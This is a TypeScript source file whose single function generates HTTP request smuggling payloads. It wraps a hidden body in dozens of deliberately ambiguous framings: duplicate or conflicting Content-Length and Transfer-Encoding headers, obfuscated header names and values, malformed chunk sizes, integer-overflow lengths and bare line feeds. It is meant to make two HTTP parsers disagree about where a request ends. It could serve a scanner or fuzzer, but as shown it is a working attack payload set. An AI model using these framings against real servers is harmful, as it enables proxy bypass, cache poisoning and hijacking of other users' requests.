/** Ends of a request's head with `hidden` as its body, whose length is told in a way that two readers may take differently. */
export function framingsOf(hidden: string): string[] {
  const length = hidden.length;
  const hex = length.toString(16);
  const end = "0\r\n\r\n";
  const chunked = `${hex}\r\n${hidden}\r\n${end}`;
  const encodings = [
    ...[
      "xchunked",
      "chunked, identity",
      "identity",
      "chunked;q=1",
      "\tchunked",
      "Chunked",
      "chunked\x0b",
      "gzip, chunked",
    ],
    ...['"chunked"', "chunked,chunked"],
  ];
  const names = [
    "Transfer-Encoding : chunked",
    "Transfer_Encoding: chunked",
    "Transfer-Encoding\x0b: chunked",
    " Transfer-Encoding: chunked",
    "X: y\r\n Transfer-Encoding: chunked",
    "X: y\rTransfer-Encoding: chunked",
    "X: y\nTransfer-Encoding: chunked",
    "\0Transfer-Encoding: chunked",
    "Transfer-Encoding:\r\n chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
  ];
  const lengths = [
    "0",
    "+0",
    "0x0",
    "-0",
    "0 ",
    "00",
    "0,0",
    "",
    "0\x0b",
    "18446744073709551616",
    "4294967296",
    "0.0",
    "0;",
  ];
  const sizes = [
    `0${hex}`,
    `0x${hex}`,
    `${hex};a=b`,
    `${hex};\n`,
    `${hex} `,
    ` ${hex}`,
    `+${hex}`,
    `ffffffffffffffff${hex}`,
  ];
  return [
    `Content-Length: ${length}\r\n\r\n${hidden}`,
    `Transfer-Encoding: chunked\r\n\r\n${chunked}`,
    `Content-Length: ${length}\r\nTransfer-Encoding: chunked\r\n\r\n${end}${hidden}`,
    ...[...encodings.map((value) => `Transfer-Encoding: ${value}`), ...names].map(
      (lines) => `${lines}\r\nContent-Length: 0\r\n\r\n${chunked}`,
    ),
    ...lengths.map((value) => `Content-Length: ${value}\r\n\r\n${hidden}`),
    `Content-Length: 0\r\nContent-Length: ${length}\r\n\r\n${hidden}`,
    `Content-Length: ${length}\r\nContent-Length: 0\r\n\r\n${hidden}`,
    `Content_Length: 0\r\nContent-Length: ${length}\r\n\r\n${hidden}`,
    ...sizes.map((size) => `Transfer-Encoding: chunked\r\n\r\n${size}\r\n${hidden}\r\n${end}`),
    `Transfer-Encoding: chunked\r\n\r\n0\r\nX: y\r\nContent-Length: ${length}\r\n\r\n${hidden}`,
    `Transfer-Encoding: chunked\r\n\r\n0\r\n\n${hidden}`,
    `Transfer-Encoding: chunked\r\n\r\n${hex}\n${hidden}\n0\n\n`,
    `Expect: 100-continue\r\nContent-Length: ${length}\r\n\r\n${hidden}`,
    `Upgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nContent-Length: ${length}\r\n\r\n${hidden}`,
  ];
}
